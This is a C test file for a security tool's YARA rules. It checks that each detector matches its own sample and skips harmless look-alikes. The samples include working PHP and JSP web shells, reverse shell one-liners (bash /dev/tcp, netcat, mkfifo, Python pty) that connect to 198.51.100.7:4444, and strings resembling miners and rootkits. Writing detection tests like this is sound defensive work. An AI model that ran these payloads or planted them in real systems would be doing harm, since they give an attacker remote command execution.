/* The YARA rules that ship: each loads without a warning, matches what it is for, speaks two
 * languages and names a technique unless it is a test; what is ordinary is left alone. */
#include "detect/yara/folder.h"
#include "detect/yara/hits.h"
#include "detect/yara/yara.h"
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/stat.h>
#include <cmocka.h>

#define ELF                                                                                        \
    "\x7f"                                                                                         \
    "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0"
#define OF(text) text, sizeof(text) - 1

static struct hm_yara_rules *rules;
static size_t problems;

static void tell(void *ctx, const struct hm_yara_problem *p)
{
    (void)ctx;
    print_message("%s:%u: %s\n", p->file, p->line, p->text);
    problems++;
}

static int add(void *ctx, const char *path, int fd)
{
    static char text[1 << 20];
    ssize_t n = read(fd, text, sizeof text);
    return n < 0 ? -1 : hm_yara_compiler_add(ctx, path, hm_slice(text, (size_t)n));
}

static int load(void **state)
{
    struct hm_error err = {0};
    (void)state;
    if (hm_yara_begin(&err) < 0)
        return -1;
    hm_autoclose int dir = open(HM_RULES_DIR "/yara", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    struct hm_yara_compiler *c = hm_yara_compiler_new(tell, NULL);
    int r = hm_yara_folder_each(dir, add, c);
    r = r ? r : hm_yara_compiler_done(c, &rules, &err);
    hm_yara_compiler_free(c);
    return r;
}

static int unload(void **state)
{
    (void)state;
    hm_yara_rules_free(rules);
    hm_yara_end();
    return 0;
}

/* Names of the rules that match, comma between. */
static void scan(const void *bytes, size_t len, struct hm_buf *ret, struct hm_yara_result *out)
{
    char name[] = "/tmp/hm-yara-XXXXXX";
    int fd = mkstemp(name);
    assert_true(fd >= 0);
    unlink(name);
    assert_int_equal(write(fd, bytes, len), len);
    struct hm_yara_scanner *s = hm_yara_scanner_new();
    struct hm_yara_subject subject = {.fd = fd, .path = "/tmp/x"};
    assert_int_equal(hm_yara_scan(s, rules, &subject, out), 0);
    struct hm_cursor in = hm_cursor(hm_buf_slice(&out->hits));
    struct hm_yara_hit h;
    while (hm_yara_hit_next(&in, &h) == 1) {
        hm_buf_puts(ret, ret->len ? "," : "");
        hm_buf_put(ret, h.rule.p, h.rule.len);
    }
    hm_buf_put_u8(ret, 0);
    hm_yara_scanner_free(s);
    close(fd);
}

static const struct {
    const char *rule; /* "" none */
    const char *bytes;
    size_t len;
} examples[] = {
    /* cut in two, so that this program is not itself taken for it */
    {"EICAR_Test_File", OF("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI"
                           "CAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")},
    {"", OF(" X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI"
            "CAR is named in this page")},
    {"Web_Shell_PHP_Runs_Request", OF("<?php @system( $_GET ['c']); ?>")},
    {"Web_Shell_PHP_Runs_Request", OF("GIF89a\n<?PHP Eval(base64_decode($_POST['x']));")},
    {"Web_Shell_PHP_Runs_Request", OF("<?= `$_GET[0]` ?>")},
    {"", OF("<?php echo htmlspecialchars($_GET['name']); system('date'); ?>")},
    {"", OF("# never write system($_GET['c']) in a page")},
    {"Web_Shell_PHP_Unpacks_Itself", OF("<?php eval(gzinflate(base64_decode('80gtUQQA')));")},
    {"", OF("<?php $x = gzinflate(base64_decode($cached)); ?>")},
    {"Web_Shell_JSP_Runs_Request",
     OF("<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec("
        "request.getParameter(\"cmd\")); %>")},
    {"", OF("<% String n = request.getParameter(\"name\"); out.print(n); %>")},
    {"Crypto_Miner_ELF",
     OF(ELF "stratum+tcp://pool:3333\0randomx/0\0donate-level\0nicehash\0hashrate")},
    {"", OF("stratum+tcp://pool:3333 randomx donate-level nicehash: read about miners")},
    {"Crypto_Miner_Configuration",
     OF("{\"donate-level\": 1, \"randomx\": {}, \"pools\": [{\"url\": \"pool.example:3333\", "
        "\"user\": \"4AB\"}]}")},
    {"", OF("{\"url\": \"db.example:5432\", \"user\": \"app\"}")},
    {"LD_PRELOAD_Rootkit_Hides_Files",
     OF(ELF "\0readdir\0readdir64\0dlsym\0/proc/self/fd/%d\0/proc/%s/stat\0")},
    {"LD_PRELOAD_Rootkit_Hides_Files",
     OF(ELF "\0readdir\0readdir64\0dlsym\0/etc/ld.so.preload\0fopen64\0unlinkat\0")},
    {"", OF(ELF "\0readdir64\0dlsym\0/proc/self/fd/%d\0/proc/%s/stat\0fopen64\0")},
    {"Mirai_Like_Bot",
     OF(ELF "/bin/busybox ECCHI\0/dvrHelper\0TSource Engine Query\0/proc/net/tcp")},
    {"", OF(ELF "/bin/busybox sh\0TSource Engine Query\0")},
    {"Meterpreter_For_Linux",
     OF("stdapi_fs_file_expand_path\0core_channel_open\0process_memory_read")},
    {"Sliver_Implant", OF(ELF "github.com/bishopfox/sliver/protobuf/sliverpb\0sliverpb.Register")},
    {"", OF("see github.com/bishopfox/sliver/protobuf/sliverpb and sliverpb.Register")},
    {"Reverse_Shell_Script", OF("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")},
    {"Reverse_Shell_Script",
     OF("import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")")},
    {"Reverse_Shell_Script", OF("nc -v 198.51.100.7 4444 -e /bin/sh")},
    {"Reverse_Shell_Script",
     OF("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f")},
    {"",
     OF("#!/bin/bash\nexec 3>/dev/null; timeout 1 bash -c '</dev/tcp/127.0.0.1/80' && echo up")},
    {"", OF("import os, subprocess\nsubprocess.call([\"/bin/sh\", \"-c\", \"make\"])\n")},
    {"Privilege_Search_Script",
     OF("#!/bin/bash\n# linPEAS\nfind / -perm -4000; cat /etc/sudoers; # see gtfobins\n")},
    {"", OF("#!/bin/bash\nfind / -perm -4000\ncat /etc/sudoers\n")},
};

static void every_rule_loads_without_a_word(void **state)
{
    (void)state;
    assert_int_equal(problems, 0);
    assert_true(hm_yara_rules_count(rules) >= 12);
}

static void examples_match_their_rule_and_no_other(void **state)
{
    (void)state;
    for (size_t i = 0; i < HM_ARRAY_LEN(examples); i++) {
        struct hm_buf names hm_auto(hm_buf_done) = HM_BUF(4096);
        struct hm_yara_result out;
        scan(examples[i].bytes, examples[i].len, &names, &out);
        hm_buf_done(&out.hits);
        if (strcmp((const char *)names.data, examples[i].rule) != 0)
            fail_msg("example %zu: \"%s\", not \"%s\"", i, names.data, examples[i].rule);
    }
}

static void every_rule_has_an_example_and_its_words(void **state)
{
    (void)state;
    size_t seen = 0;
    const char *last = "";
    for (size_t i = 0; i < HM_ARRAY_LEN(examples); i++) {
        struct hm_buf names hm_auto(hm_buf_done) = HM_BUF(4096),
                            t hm_auto(hm_buf_done) = HM_BUF(256);
        struct hm_yara_result out;
        struct hm_yara_hit h;
        if (!*examples[i].rule || strcmp(examples[i].rule, last) == 0)
            continue;
        last = examples[i].rule;
        seen++;
        scan(examples[i].bytes, examples[i].len, &names, &out);
        struct hm_cursor in = hm_cursor(hm_buf_slice(&out.hits));
        assert_int_equal(hm_yara_hit_next(&in, &h), 1);
        assert_true(hm_yara_hit_meta(&h, "description").len > 20);
        struct hm_slice ja = hm_yara_hit_meta(&h, "description_ja");
        assert_true(ja.len > 20);
        bool japanese = false;
        for (size_t k = 0; k < ja.len; k++)
            japanese |= ja.p[k] >= 0x80;
        assert_true(japanese);
        assert_true(hm_yara_hit_meta(&h, "severity").len > 0);
        hm_yara_hit_techniques(&h, &t);
        assert_true(t.len > 0 || hm_slice_eq(h.tags, hm_slice_str("test")));
        hm_buf_done(&out.hits);
    }
    assert_int_equal(seen, hm_yara_rules_count(rules));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_loads_without_a_word),
        cmocka_unit_test(examples_match_their_rule_and_no_other),
        cmocka_unit_test(every_rule_has_an_example_and_its_words),
    };
    return cmocka_run_group_tests(tests, load, unload);
}
